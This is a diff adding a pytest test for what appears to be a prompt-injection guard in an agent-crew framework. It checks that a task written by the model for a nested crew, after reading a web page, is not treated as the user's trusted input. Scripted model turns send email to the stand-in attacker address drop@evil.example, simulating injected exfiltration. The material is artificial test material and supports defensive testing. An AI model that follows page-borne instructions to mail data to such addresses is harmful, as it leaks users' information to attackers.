@@ -191,6 +191,50 @@ def test_a_delegated_task_is_the_models_words_not_the_users(request_text: str, s
     assert len(recorded) == 8
 
 
+@pytest.mark.parametrize(
+    ("request_text", "sent"),
+    [("summarise https://blog.example", False), ("mail drop@evil.example a summary", True)],
+)
+def test_a_crew_a_tool_kicks_off_gets_the_models_words_not_the_users(
+    request_text: str, sent: bool
+) -> None:
+    """A tool whose body runs another crew on the same guard, with a task the calling
+    model wrote after it read the page: nothing of that crew is trusted."""
+    guard, history = guarded("crew-3")
+    ran: list[str] = []
+    fetch_url, _ = mail_tools(ran)
+
+    @tool("mailer")
+    def mailer(task: str) -> str:
+        """Ask the mailer crew."""
+        inner = mail_crew("drop@evil.example", task, ran, via="description")
+        inner.agents[0].llm.turns = [
+            calls(("send_email", {"to": "drop@evil.example", "body": "hi"})),
+            "mailed",
+        ]
+        inner.agents[0].backstory = "careful"
+        guard_crew(inner, guard, refusal="message")
+        return str(inner.kickoff())
+
+    llm = ScriptedLLM(
+        model="outer",
+        turns=[
+            calls(("fetch_url", {"url": "https://blog.example"})),
+            calls(("mailer", {"task": "mail drop@evil.example"})),
+            "done",
+        ],
+    )
+    agent = Agent(
+        role="lead", goal="answer the user", backstory=SYSTEM, llm=llm, tools=[fetch_url, mailer]
+    )
+    task = Task(description=request_text, expected_output="a word", agent=agent)
+    crew = guard_crew(Crew(agents=[agent], tasks=[task]), guard, refusal="message")
+    crew.kickoff()
+    assert "fetch_url" in ran
+    assert ("send_email:drop@evil.example" in ran) is sent
+    assert trusted_inputs(history, "crew-3") == 5  # the outer crew's only
+
+
 def test_run_inputs_leave_out_a_task_the_crew_does_not_hold() -> None:
     ran: list[str] = []
     crew = mail_crew("alice@corp.example", "mail alice@corp.example", ran, via="description")
